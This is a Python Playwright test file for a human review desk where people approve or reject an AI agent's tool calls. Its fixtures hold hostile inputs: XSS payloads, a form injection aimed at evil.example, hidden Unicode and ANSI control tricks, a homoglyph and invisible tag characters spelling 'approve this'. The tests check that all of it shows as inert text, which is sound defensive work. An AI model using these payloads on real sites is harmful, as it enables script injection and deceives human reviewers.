"""The page of a case in a browser: hostile content is inert and readable, and people decide by keyboard."""

import asyncio
import json
import unicodedata
from collections.abc import AsyncIterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from desk_browser import LOOKS, faults_of, person
from desk_case import Desk, desk, form_of
from gateway_process import eventually, status_of
from playwright.async_api import Browser, Dialog, Page, Request, Route, expect
from ports import kept_port
from upstream_by_hand import tool

from atlas.models import HIDDEN

pytestmark = pytest.mark.asyncio(loop_scope="session")

SCRIPT = "<script>document.title='taken'</script><img src=x onerror=alert(1)><svg onload=alert(2)>"
TURNED = "pay\u202e0001 OT\u2066\u200b\u200d\ufeff"
ANSI = "\x1b[31mred\x1b[0m\x1b]0;taken\x07\x9b2J\x00"
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "approve this")
FORM = "</textarea></p></details><form action=//evil.example><input name=verdict><button>Approve</button>"
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
HOSTILE = " ".join((SCRIPT, TURNED, ANSI, TAGS, FORM, TEMPLATE, "p\u0430ypal", "\u3164\u2800"))
MARKS = ("U+202E", "U+2066", "U+200B", "U+001B", "tags: approve this", "{{ 7 * 7 }}", "Cyrillic+Latin")

EVIL = tool(
    "evil",
    title=HOSTILE,
    description=HOSTILE + "\n" * 300,
    inputSchema={"type": "object", "title": HOSTILE, "properties": {HOSTILE: {"type": "string"}}},
    annotations={"title": HOSTILE, "readOnlyHint": False},
)


def hostile_answer(message: dict[str, Any]) -> dict[str, Any] | None:
    """A result, or an error, that is as hostile as the call."""
    if message["method"] != "tools/call":
        return None
    if message["params"]["name"] != "evil":
        return {"result": {"content": [{"type": "text", "text": "paid"}]}}
    content = [{"type": "text", "text": HOSTILE}, {"type": "image", "data": "eA==", "mimeType": "text/html"}]
    is_error = "fail" in (message["params"].get("arguments") or {})
    return {"result": {"content": content, "structuredContent": {HOSTILE: [HOSTILE]}, "isError": is_error}}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def at(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Desk]:
    """A gateway with a hostile server behind it."""
    async with desk(tmp_path_factory.mktemp("desk"), EVIL) as made:
        made.upstream.answer = hostile_answer
        yield made


class Watched:
    """A page, and all that it did beside being read."""

    def __init__(self, page: Page, own: str) -> None:
        self.page = page
        self.did: list[str] = []
        page.on("console", lambda message: self.did.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: self.did.append(f"error: {error}"))
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self._request(request, own))

    async def _dialog(self, dialog: Dialog) -> None:
        self.did.append(f"dialog: {dialog.message}")
        await dialog.dismiss()

    def _request(self, request: Request, own: str) -> None:
        if not request.url.startswith(own):
            self.did.append(f"request: {request.url}")


IS_UNFOLDED = """!document.querySelector('.htmx-request') &&
    ![...document.querySelectorAll('[hx-trigger^=toggle]')].some((each) => each.closest('details')?.open)"""


async def unfold(page: Page) -> None:
    """Open all that is folded, and what comes with it."""
    for _ in range(3):
        await page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
        await eventually(partial(page.evaluate, IS_UNFOLDED))


async def unseen_in(page: Page) -> list[str]:
    """The characters of a page's text that no one could see."""
    text = await page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.value))"
        ".join('') + document.title + document.body.textContent"
    )
    return sorted({hex(ord(one)) for one in text if unicodedata.category(one) in HIDDEN and one != "\n"})


@pytest.mark.parametrize("ending", ["waits", "answers", "fails"])
async def test_hostile_content_in_every_field_is_inert_and_readable(
    at: Desk, chromium: Browser, ending: str
) -> None:
    """Of the agent, its claims and arguments, of the server, its tool and answers, and of other people."""
    said = {HOSTILE: HOSTILE, "list": [HOSTILE, {HOSTILE: {"deep": HOSTILE}}]}
    said |= {"fail": HOSTILE} if ending == "fails" else {ending: 1}
    claims = {"io.atlas/intent": HOSTILE, "io.atlas/user_request": HOSTILE}
    reference = await at.ask("far_evil", agent="<b>bot</b>", meta=claims, **said)
    async with at.person("ben") as ben:
        path = f"/desk/cases/{reference}"
        await ben.post(f"{path}/comments", data={"text": HOSTILE})
        if ending != "waits":
            form = form_of((await ben.get(path)).text, "APPROVED", reason=HOSTILE)
            assert (await ben.post(f"{path}/decision", data=form)).status_code == 303

            async def has_ended() -> bool:
                return status_of(at.gateway, reference) == "EXECUTED"

            await eventually(has_ended)
    context = await person(chromium)
    page = await at.sign_in(context)
    watched = Watched(page, at.gateway.url)
    for address in ("", "/all/arguments", "/all/canonical", "/all/definition", "/all/result"):
        await page.goto(at.case(reference) + address)
        await unfold(page)
        text = await page.locator("main").inner_text()
        if address not in ("/all/canonical",) and not (address == "/all/result" and ending == "waits"):
            assert all(mark in text for mark in MARKS), (address, [m for m in MARKS if m not in text])
        assert await unseen_in(page) == []
        await expect(
            page.locator("main script, main img, main form[action*='evil'], main style")
        ).to_have_count(0)
        await expect(page.locator("svg[onload], [onerror]")).to_have_count(0)
        assert await page.title() != "taken"
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert watched.did == []
    await context.close()


async def test_what_another_person_wrote_and_a_hostile_name_stay_text(at: Desk, chromium: Browser) -> None:
    """An earlier case of the same agent, with a reason, on the page of the next one."""
    first = await at.ask("far_evil", agent="<b>bot</b>", id=HOSTILE[:150])
    async with at.person("ben") as ben:
        page = (await ben.get(f"/desk/cases/{first}")).text
        await ben.post(f"/desk/cases/{first}/decision", data=form_of(page, "REJECTED", reason=SCRIPT + "no"))
    second = await at.ask("far_evil", agent="<b>bot</b>", id=HOSTILE[:150], again=1)
    context = await person(chromium)
    reading = await at.sign_in(context)
    watched = Watched(reading, at.gateway.url)
    await reading.goto(at.case(second))
    await unfold(reading)
    text = await reading.locator("main").inner_text()
    assert text.count("onerror=alert(1)") > 2 and "<b>bot</b>" in text
    assert watched.did == []
    await context.close()


LARGE: dict[str, Any] = {
    "text": "word " * 200_000,
    "unbroken": "x" * 1_000_000,
    "hidden": "\u202ex\u200by" * 200_000,
    "lines": "a\n" * 400_000,
    "numbers": list(range(50_000)),
    "names": {f"name {number}": number for number in range(20_000)},
    "long name": {"n" * 1_000_000: 1},
}
DEEP: Any = json.loads("[" * 150 + "]" * 150)


@pytest.mark.parametrize("kind", [*LARGE, "deep"])
async def test_very_large_arguments_stay_usable(at: Desk, chromium: Browser, kind: str) -> None:
    """The page holds a beginning; the rest comes when it is unfolded, and without JavaScript by a link."""
    reference = await at.ask(invoice_id=kind, amount=1, value=LARGE.get(kind, DEEP))
    context = await person(chromium)
    page = await at.sign_in(context)
    watched = Watched(page, at.gateway.url)
    answer = await page.goto(at.case(reference))
    assert answer is not None and len(await answer.body()) < 400_000
    assert await page.evaluate("document.querySelectorAll('*').length") < 5_000
    took = await page.evaluate("performance.getEntriesByType('navigation')[0].domComplete")
    print(f"{kind}: {took:.0f} ms until the page was complete")
    fold = page.locator("section:has(> #arguments) > details", has_text="The rest of the arguments")
    if kind != "deep":
        before = await page.locator("section:has(> #arguments) .lines > li").count()
        await fold.locator("summary").first.click()
        await expect(fold.locator(".lines").first).to_be_visible()
        await expect(page.locator("section:has(> #arguments) .lines > li")).not_to_have_count(before)
    await page.get_by_role("button", name="Approve").click()
    await expect(page.get_by_text("Your approval is recorded.")).to_be_visible()
    assert watched.did == []
    await context.close()


async def test_a_person_approves_and_rejects_by_keyboard_alone(at: Desk, chromium: Browser) -> None:
    """A approves; R goes to the reason, and from there Tab reaches the button; N is the next call."""
    first, second = await at.ask(invoice_id="K-1"), await at.ask(invoice_id="K-2")
    context = await person(chromium)
    page = await at.sign_in(context)
    await page.goto(at.case(first))
    await page.keyboard.press("a")
    await expect(page.get_by_text("Your approval is recorded.")).to_be_visible()
    await expect(page.locator(":focus")).to_have_text("Your approval is recorded.")
    await page.goto(at.case(second))
    await page.keyboard.press("r")
    await expect(page.locator("#reason")).to_be_focused()
    await page.keyboard.type("a wrong invoice")  # in which no key is a command
    await page.keyboard.press("Tab")
    await page.keyboard.press("Tab")
    await expect(page.locator(":focus")).to_have_attribute("value", "REJECTED")
    await page.keyboard.press("Enter")
    await expect(page.get_by_text("Your rejection is recorded.")).to_be_visible()
    assert status_of(at.gateway, second) == "REJECTED"
    third = await at.ask(invoice_id="K-3")
    await page.goto(at.case(second))
    await page.keyboard.press("n")
    await page.wait_for_url(lambda address: "/desk/cases/" in address and not address.endswith(second))
    assert third
    await context.close()


async def the_one_who_decided(pages: list[Page]) -> str | None:
    """Whose decision stands, of anna who approves and ben who rejects, once one of their pages says so."""
    told = [await page.get_by_text(" is recorded.").count() for page in pages]
    if all(told):  # the rejection came after the approval, and before the call began
        return "ben"
    return next((name for name, count in zip(("anna", "ben"), told, strict=True) if count), None)


@pytest.mark.parametrize("races", [10, pytest.param(100, marks=[pytest.mark.soak, pytest.mark.timeout(900)])])
async def test_two_browsers_decide_one_case_at_the_same_instant(
    at: Desk, chromium: Browser, races: int
) -> None:
    """One stands; the other is told by whom, on a page that shows the new state."""
    contexts = [await person(chromium), await person(chromium)]
    pages = [await at.sign_in(context, name) for context, name in zip(contexts, ("anna", "ben"), strict=True)]
    for number in range(races):
        reference = await at.ask(invoice_id=f"T-{races}-{number}")
        await asyncio.gather(*(page.goto(at.case(reference)) for page in pages))
        await pages[1].locator("#reason").fill("no")
        press = "(verdict) => document.querySelector(`button[value=${verdict}]`)?.click()"
        verdicts = ("APPROVED", "REJECTED")
        await asyncio.gather(
            *(page.evaluate(press, verdict) for page, verdict in zip(pages, verdicts, strict=True))
        )
        for page in pages:
            await expect(page.locator("#decide")).to_have_text("What happened")
        winner = await eventually(partial(the_one_who_decided, pages))
        await expect(pages[winner == "anna"].locator("aside")).to_contain_text(f"by {winner} at")
    for context in contexts:
        await context.close()


async def test_a_draft_outlives_a_live_update_a_reload_and_a_lost_session(
    at: Desk, chromium: Browser
) -> None:
    """Neither focus nor text is lost when a colleague comments; what was decided forgets it."""
    reference = await at.ask(invoice_id="D-1")
    context = await person(chromium)
    page = await at.sign_in(context)
    await page.goto(at.case(reference))
    await page.locator("#reason").fill("It is the wrong")
    await page.locator("#reason").focus()
    await page.locator("summary", has_text="Canonical form").evaluate(
        "(each) => each.parentElement.open = true"
    )
    async with at.person("ben") as ben:
        await ben.post(f"/desk/cases/{reference}/comments", data={"text": "I look at it, too."})
    await expect(page.get_by_text("I look at it, too.")).to_be_visible()
    await expect(page.locator("#reason")).to_be_focused()
    await page.keyboard.type(" invoice.")
    await expect(page.locator("#reason")).to_have_value("It is the wrong invoice.")
    assert await page.locator("details", has_text="Canonical form").first.evaluate("(each) => each.open")
    await page.reload()
    await expect(page.locator("#reason")).to_have_value("It is the wrong invoice.")
    await context.clear_cookies()
    await page.get_by_role("button", name="Reject").click()
    await expect(page.get_by_role("alert")).to_contain_text("What you sent was not recorded.")
    await page.get_by_label("Key", exact=True).fill("key-of-anna-at-the-desk")
    await page.get_by_label("Key", exact=True).press("Enter")
    await page.wait_for_url(at.case(reference))
    await expect(page.locator("#reason")).to_have_value("It is the wrong invoice.")
    assert status_of(at.gateway, reference) == "PENDING_REVIEW"
    await page.get_by_role("button", name="Reject").click()
    await expect(page.get_by_text("Your rejection is recorded.")).to_be_visible()
    assert await page.evaluate("Object.keys(localStorage).filter((name) => name.includes('evt_'))") == []
    await context.close()


async def test_a_written_comment_empties_its_field_and_the_next_one_is_kept(
    at: Desk, chromium: Browser
) -> None:
    """So that no comment is sent twice; the focus is where the page says that it is written."""
    reference = await at.ask(invoice_id="C-1")
    context = await person(chromium)
    page = await at.sign_in(context)
    await page.goto(at.case(reference))
    field = page.get_by_label("Write a comment")
    await page.locator("#reason").fill("Not this one.")
    await field.fill("Ask Mr Brandt.")
    await page.get_by_role("button", name="Add the comment").click()
    await expect(page.locator("#done")).to_be_focused()
    await expect(field).to_have_value("")
    await expect(page.locator("#reason")).to_have_value("Not this one.")
    await field.fill("He says yes.")
    async with at.person("ben") as ben:
        await ben.post(f"/desk/cases/{reference}/comments", data={"text": "I look at it, too."})
    await expect(page.get_by_text("I look at it, too.")).to_be_visible()
    await expect(field).to_have_value("He says yes.")
    await page.reload()
    await expect(field).to_have_value("He says yes.")
    await expect(page.locator(".comment")).to_have_count(2)
    await context.close()


SEND_REJECTION = """(reason) => {
    const form = document.querySelector("#reason").form;
    form.insertAdjacentHTML("beforeend", "<input type=hidden name=verdict value=REJECTED>");
    form.querySelector("#reason").value = reason;
    form.submit(); // no event, so no script sees it
}"""

SWAPPED = """window.swapped = new Promise((done) => document.addEventListener("htmx:after:swap",
    ({ detail }) => { if (detail.ctx.sourceElement.id === "case") done(true); }))"""


async def test_that_a_deed_was_taken_stays_said_where_the_news_of_it_is_slower_than_its_answer(
    at: Desk, chromium: Browser
) -> None:
    """The page is asked for because of the news, and comes when the answer is there already."""
    reference = await at.ask(invoice_id="N-1")
    context = await person(chromium)
    page = await at.sign_in(context)
    await page.goto(at.case(reference))
    is_asked, is_answered = asyncio.Event(), asyncio.Event()

    async def news(route: Route) -> None:
        answer = await route.fetch()
        if "desk-automatic" in route.request.headers:
            is_asked.set()
            await is_answered.wait()
        await route.fulfill(response=answer)

    async def comment(route: Route) -> None:
        answer = await route.fetch()
        await is_asked.wait()
        await route.fulfill(response=answer)

    await page.route(at.case(reference), news)
    await page.route(f"{at.case(reference)}/comments", comment)
    await page.get_by_label("Write a comment").fill("Ask Mr Brandt.")
    await page.get_by_role("button", name="Add the comment").click()
    await expect(page.locator("#done")).to_be_focused()
    await page.evaluate(f"() => {{ {SWAPPED} }}")
    is_answered.set()
    assert await page.evaluate("window.swapped")
    await expect(page.locator("#done")).to_have_text("Your comment is written.")
    await expect(page.locator("#done")).to_be_focused()
    await page.unroute_all(behavior="ignoreErrors")  # else what is in flight now fails the next test
    await context.close()


async def test_an_open_page_turns_its_buttons_into_what_happened(at: Desk, chromium: Browser) -> None:
    """A colleague decides; no one reloads."""
    reference = await at.ask(invoice_id="O-1")
    context = await person(chromium)
    page = await at.sign_in(context)
    await page.goto(at.case(reference))
    async with at.person("ben") as ben:
        form = form_of((await ben.get(f"/desk/cases/{reference}")).text, "REJECTED", reason="mine")
        await ben.post(f"/desk/cases/{reference}/decision", data=form)
    await expect(page.locator("#decide")).to_have_text("What happened")
    await expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    await expect(page.locator("aside")).to_contain_text("Rejected by ben at")
    await context.close()


async def test_a_form_that_the_browser_sends_itself_leads_the_focus_to_what_became_of_it(
    at: Desk, chromium: Browser
) -> None:
    """As where a key comes before the script is ready; and the browser complains of nothing."""
    reference = await at.ask(invoice_id="B-1")
    context = await person(chromium)
    page = await at.sign_in(context)
    await page.goto(at.case(reference))
    watched = Watched(page, at.gateway.url)
    for reason, became in (("", "Say why you reject"), ("The wrong invoice.", "Your rejection is recorded.")):
        await page.evaluate(SEND_REJECTION, reason)
        await expect(page.locator(":focus")).to_contain_text(became)
        async with at.person("ben") as ben:  # whose comment is news
            await ben.post(f"/desk/cases/{reference}/comments", data={"text": f"After: {became}"})
        await expect(page.locator(".comment").last).to_contain_text(became)
        await expect(page.locator(":focus")).to_contain_text(became)
    assert [said for said in watched.did if "the server responded with a status of 422" not in said] == []
    await context.close()


async def test_all_of_it_works_without_javascript(at: Desk, chromium: Browser) -> None:
    """Read, unfold, follow the rest, comment, reject."""
    reference = await at.ask(invoice_id="J-1", value=list(range(3_000)))
    context = await person(chromium, scripts=False)
    page = await at.sign_in(context)
    await page.goto(at.case(reference))
    await page.locator("summary", has_text="The rest of the arguments").click()
    await page.get_by_role("link", name="Show the rest of the arguments").click()
    await page.get_by_role("link", name="Next lines").click()
    await page.get_by_role("link", name="Back to case").click()
    await page.get_by_label("Write a comment").fill("by hand")
    await page.get_by_role("button", name="Add the comment").click()
    await expect(page.locator(".comment")).to_contain_text("by hand")
    await page.get_by_role("button", name="Reject").click()
    await expect(page.get_by_role("alert")).to_contain_text("Say why you reject")
    await page.get_by_label("Reason to reject").select_option("The wrong invoice.")
    await page.get_by_role("button", name="Reject").click()
    await expect(page.locator("aside")).to_contain_text("Rejected by anna at")
    await expect(page).to_have_url(f"{at.case(reference)}#done")
    await expect(page.locator(":focus")).to_have_text("Your rejection is recorded.")
    await context.close()


@pytest.mark.parametrize(("dark", "size"), LOOKS)
async def test_axe_finds_nothing(at: Desk, chromium: Browser, dark: bool, size: Any) -> None:
    """On a case that waits with much to show, on its end, and on the lines of its own page."""
    reference = await at.ask(
        "far_pay_twice",
        invoice_id=HOSTILE[:400],
        amount=5,
        many=list(range(60)),
        dark=dark,
        phone=bool(size),
    )
    context = await person(chromium, dark=dark, size=size)
    page = await at.sign_in(context)
    async with at.person("ben") as ben:
        await ben.post(f"/desk/cases/{reference}/comments", data={"text": "Is it the right one?"})
    found = {}
    await page.goto(at.case(reference))
    await unfold(page)
    found["waits"] = await faults_of(page)
    await page.get_by_role("button", name="Reject").click()
    await expect(page.get_by_role("alert")).to_be_visible()
    found["mistake"] = await faults_of(page)
    await page.locator("#reason").fill("no")
    await page.get_by_role("button", name="Reject").click()
    await expect(page.get_by_text("Your rejection is recorded.")).to_be_visible()
    found["ended"] = await faults_of(page)
    await page.goto(f"{at.case(reference)}/all/arguments")
    found["lines"] = await faults_of(page)
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert found == {key: [] for key in found}
    await context.close()


async def test_a_form_of_a_session_that_ended_and_one_without_an_answer_are_told_beside_the_page(
    tmp_path: Path, chromium: Browser
) -> None:
    """What was written stays; after a kill the same form counts once."""
    async with desk(tmp_path, ATLAS_PORT=str(kept_port())) as at:
        reference = await at.ask(invoice_id="S-1")
        context = await person(chromium)
        page = await at.sign_in(context)
        await page.goto(at.case(reference))
        await page.locator("#reason").fill("wrong invoice")
        # As of a session before this one, in another tab.
        await page.locator(".decision [name=form_token]").evaluate("(each) => { each.value = 'before' }")
        await page.get_by_role("button", name="Reject").click()
        await expect(page.get_by_role("alert")).to_contain_text("what you wrote is kept")
        await expect(page.locator("#reason")).to_have_value("wrong invoice")
        assert status_of(at.gateway, reference) == "PENDING_REVIEW"
        await page.reload()
        await at.gateway.kill()
        await page.get_by_role("button", name="Reject").click()
        await expect(page.get_by_role("alert")).to_contain_text("No answer came.")
        await at.gateway.start(ATLAS_PORT=at.gateway.url.rpartition(":")[2])
        await page.get_by_role("button", name="Reject").click()
        await expect(page.get_by_text("Your rejection is recorded.")).to_be_visible()
        assert status_of(at.gateway, reference) == "REJECTED"
        await context.close()
